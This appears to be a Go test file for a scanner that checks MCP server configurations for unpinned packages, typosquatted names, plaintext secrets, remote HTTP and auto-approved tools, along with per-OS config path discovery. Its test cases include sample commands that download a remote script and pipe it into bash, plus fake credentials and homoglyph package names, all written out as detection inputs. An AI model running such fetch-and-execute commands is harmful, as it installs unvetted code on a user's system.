@@ -1,0 +1,144 @@
+package scan
+
+import (
+	"errors"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func rulesOf(fs []Finding) string {
+	var ids []string
+	for _, f := range fs {
+		ids = append(ids, f.RuleID)
+	}
+	return strings.Join(ids, ",")
+}
+
+func TestCheckEntry(t *testing.T) {
+	noBinary := func(string) (string, error) { return "", errors.New("executable file not found in $PATH") }
+	cases := []struct {
+		name string
+		e    Entry
+		lp   func(string) (string, error)
+		want string
+	}{
+		{"pinned npx", Entry{Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/tmp"}}, nil, ""},
+		{"npx no version", Entry{Command: "npx", Args: []string{"--yes", "firecrawl-mcp"}}, nil, "MCP-CONFIG-PIN-001"},
+		{"npx package flag", Entry{Command: "npx", Args: []string{"-p", "exa-mcp-server@next", "exa"}}, nil, "MCP-CONFIG-PIN-001"},
+		{"pnpm dlx pinned", Entry{Command: "pnpm", Args: []string{"dlx", "tavily-mcp@0.2.9"}}, nil, ""},
+		{"windows npx.cmd", Entry{Command: `C:\Program Files\nodejs\npx.cmd`, Args: []string{"-y", "chrome-devtools-mcp@latest"}}, nil, "MCP-CONFIG-PIN-001"},
+		{"uvx from pinned", Entry{Command: "uvx", Args: []string{"--from", "mcp-server-git==2025.7.1", "mcp-server-git"}}, nil, ""},
+		{"uvx range", Entry{Command: "uvx", Args: []string{"mcp-server-fetch>=2025.1"}}, nil, "MCP-CONFIG-PIN-001"},
+		{"uv tool run", Entry{Command: "uv", Args: []string{"tool", "run", "serena"}}, nil, "MCP-CONFIG-PIN-001"},
+		{"docker tag", Entry{Command: "docker", Args: []string{"run", "-i", "--rm", "-v", "/src:/src", "mcp/filesystem:1.0", "/src"}}, nil, "MCP-CONFIG-PIN-002"},
+		{"docker digest", Entry{Command: "podman", Args: []string{"run", "-i", "mcp/time@sha256:" + strings.Repeat("ab", 32)}}, nil, ""},
+		{"sh -c npx unpinned", Entry{Command: "sh", Args: []string{"-c", "cd /srv && npx -y mcp-remote https://mcp.linear.app/sse"}}, nil, "MCP-CONFIG-PIN-001"},
+		{"typo package", Entry{Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-filesytem@1.0.0"}}, nil, "MCP-CONFIG-SQUAT-001"},
+		{"scope swap", Entry{Command: "npx", Args: []string{"-y", "@modelcontextprotoco1/server-memory@1.0.0"}}, nil, "MCP-CONFIG-SQUAT-001"},
+		{"cyrillic scope", Entry{Command: "npx", Args: []string{"-y", "@modelcontextprоtocol/server-memory@1.0.0"}}, nil, "MCP-CONFIG-SQUAT-001"},
+		{"fork under own scope is fine", Entry{Command: "npx", Args: []string{"-y", "@acme/server-filesystem@1.0.0"}}, nil, ""},
+		{"typo host", Entry{URL: "https://mcp.linaer.app/sse", Transport: "sse"}, nil, "MCP-CONFIG-SQUAT-001"},
+		{"known host", Entry{URL: "https://mcp.linear.app/sse", Transport: "sse"}, nil, ""},
+		{"http loopback", Entry{URL: "http://localhost:8080/mcp", Transport: "http"}, nil, ""},
+		{"http ipv6 loopback", Entry{URL: "http://[::1]:8080/mcp", Transport: "http"}, nil, ""},
+		{"http remote", Entry{URL: "http://mcp.internal.example:8080/mcp", Transport: "http"}, nil, "MCP-CONFIG-HTTP-001"},
+		{"env reference", Entry{Command: "node", Args: []string{"srv.js"}, Env: map[string]string{"API_KEY": "${API_KEY}", "TOKEN": "${input:tok}", "DEBUG": "true"}}, nil, ""},
+		{"placeholder", Entry{Command: "node", Args: []string{"srv.js"}, Env: map[string]string{"API_KEY": "<your-api-key>", "SECRET": "YOUR_SECRET_HERE"}}, nil, ""},
+		{"token flag", Entry{Command: "node", Args: []string{"srv.js", "--token", "a8F3kL0pQ7zX2mN9vB4cR6tY1wE5uI8o"}}, nil, "MCP-CONFIG-SECRET-002"},
+		{"token flag equals", Entry{Command: "node", Args: []string{"srv.js", "--api-key=sk-proj-Ab3De6Gh9Jk2Mn5Pq8St1Vw4Yz7Bc0Ef3"}}, nil, "MCP-CONFIG-SECRET-001"},
+		{"aws key in env", Entry{Command: "node", Args: []string{"s.js"}, Env: map[string]string{"AWS_ACCESS_KEY_ID": "AKIAQ3EGRRPDW5XKT7NZ"}}, nil, "MCP-CONFIG-SECRET-001"},
+		{"not a secret: path", Entry{Command: "node", Args: []string{"s.js"}, Env: map[string]string{"KEY_FILE": "/etc/ssl/private/key0123456789abcdef.pem"}}, nil, ""},
+		{"curl pipe bash", Entry{Command: "/bin/bash", Args: []string{"-lc", "wget -qO- https://x.example/i.sh | sudo bash"}}, nil, "MCP-CONFIG-EXEC-001"},
+		{"process substitution", Entry{Command: "bash", Args: []string{"-c", "bash <(curl -s https://x.example/i.sh)"}}, nil, "MCP-CONFIG-EXEC-001"},
+		{"curl to file is fine", Entry{Command: "sh", Args: []string{"-c", "curl -o /tmp/x.json https://x.example/x.json && node srv.js"}}, nil, ""},
+		{"missing binary", Entry{Command: "my-mcp-server"}, noBinary, "MCP-CONFIG-BINARY-001"},
+		{"autoApprove", Entry{Command: "node", Args: []string{"s.js"}, AutoApprove: []string{"delete_file"}}, nil, "MCP-CONFIG-TRUST-001"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			c.e.Name = "s"
+			if c.e.Transport == "" {
+				c.e.Transport = "stdio"
+			}
+			if got := rulesOf(CheckEntry(c.e, &StaticOptions{LookPath: c.lp})); got != c.want {
+				t.Errorf("rules = %q, want %q", got, c.want)
+			}
+		})
+	}
+}
+
+func TestCandidatesPerOS(t *testing.T) {
+	cases := []struct {
+		os, home string
+		vars     map[string]string
+		want     []string
+	}{
+		{"darwin", "/Users/ana", nil, []string{
+			"/Users/ana/Library/Application Support/Claude/claude_desktop_config.json",
+			"/Users/ana/Library/Application Support/Code/User/mcp.json",
+			"/Users/ana/Library/Application Support/Code - Insiders/User/settings.json",
+			"/Users/ana/Library/Application Support/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json",
+			"/Library/Application Support/ClaudeCode/managed-mcp.json",
+			"/Users/ana/.config/zed/settings.json",
+			"/Users/ana/.codex/config.toml",
+		}},
+		{"windows", "/c/Users/ana", map[string]string{"APPDATA": "/c/Users/ana/AppData/Roaming"}, []string{
+			"/c/Users/ana/AppData/Roaming/Claude/claude_desktop_config.json",
+			"/c/Users/ana/AppData/Roaming/Code/User/mcp.json",
+			"/c/Users/ana/AppData/Roaming/Zed/settings.json",
+			"/c/Users/ana/.cursor/mcp.json",
+			"/c/Users/ana/.codeium/windsurf/mcp_config.json",
+			"/Program Files/ClaudeCode/managed-mcp.json",
+		}},
+		{"linux", "/home/ana", map[string]string{"XDG_CONFIG_HOME": "/home/ana/.xdg", "CODEX_HOME": "/opt/codex"}, []string{
+			"/home/ana/.xdg/Code/User/mcp.json",
+			"/home/ana/.xdg/zed/settings.json",
+			"/home/ana/.xdg/opencode/opencode.jsonc",
+			"/opt/codex/config.toml",
+			"/etc/claude-code/managed-mcp.json",
+			"/home/ana/.claude.json",
+			"/home/ana/.gemini/antigravity/mcp_config.json",
+			"/home/ana/.kiro/settings/mcp.json",
+			"/home/ana/.aws/amazonq/mcp.json",
+			"/home/ana/.copilot/mcp-config.json",
+		}},
+	}
+	for _, c := range cases {
+		t.Run(c.os, func(t *testing.T) {
+			got := map[string]bool{}
+			for _, s := range Candidates(Env{OS: c.os, Home: c.home, Vars: c.vars, Root: "/"}) {
+				got[filepath.ToSlash(s.Path)] = true
+			}
+			for _, w := range c.want {
+				if !got[w] {
+					t.Errorf("missing candidate %s", w)
+				}
+			}
+		})
+	}
+}
+
+func TestParseBadInput(t *testing.T) {
+	dir := t.TempDir()
+	huge := filepath.Join(dir, "huge.json")
+	if err := writeFile(huge, strings.Repeat(" ", MaxConfigBytes+10)); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := ParseFile(Source{Path: huge}); !errors.Is(err, ErrTooLarge) {
+		t.Errorf("huge file: %v, want ErrTooLarge", err)
+	}
+	for name, text := range map[string]string{
+		"array.json":  `[1,2]`,
+		"broken.toml": "[mcp_servers.x\ncommand = 1",
+		"broken.yaml": "mcpServers: [\n",
+	} {
+		p := filepath.Join(dir, name)
+		if err := writeFile(p, text); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := ParseFile(Source{Path: p}); err == nil {
+			t.Errorf("%s: no error", name)
+		}
+	}
+}
